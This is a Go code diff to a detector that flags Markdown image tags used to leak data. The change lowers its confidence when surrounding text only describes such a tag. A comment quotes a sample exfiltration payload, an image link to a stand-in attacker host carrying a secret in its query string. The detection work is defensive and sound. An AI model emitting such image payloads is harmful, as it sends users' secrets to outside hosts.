@@ -334,12 +334,28 @@ func (d *detector) image(i int) int {
 		conf := 0.85
 		// "an injected ![](https://evil.example/?q=SECRET) could leak
 		// data": a write-up names the attack it describes; reported.
-		if exampleIntro(b[sentenceStart(b, i):i]) {
+		// "an image tag like ![x](…) can leak data when …": the image is
+		// the subject of a sentence about it.
+		if exampleIntro(b[sentenceStart(b, i):i]) || subjectOf(b, ue+1) {
 			conf = 0.45
 		}
 		return d.add(rawFinding{s: i, e: ue + 1, family: FamilyExfiltration, conf: conf, rule: "exfil.image"})
 	}
 	return -1
+}
+
+// describingVerbs, right after a thing, make it the subject of a
+// sentence about what it does: "… can leak data", "… sends the cookie".
+var describingVerbs = setOf("can|could|may|might|would|will|leaks|sends|makes|lets|causes|triggers|kann|konnte|koennte|puede|podria|puo|potrebbe|peut|pourrait")
+
+// subjectOf reports a describing verb as the next word after i on its
+// line.
+func subjectOf(b []byte, i int) bool {
+	j := skipInlineSpace(b, i)
+	if j == i || j >= len(b) || !wordClass[b[j]] {
+		return false
+	}
+	return describingVerbs[string(b[j:wordEnd(b, j+1)])]
 }
 
 // urlEnd returns the offset of the ')' that closes a Markdown target.
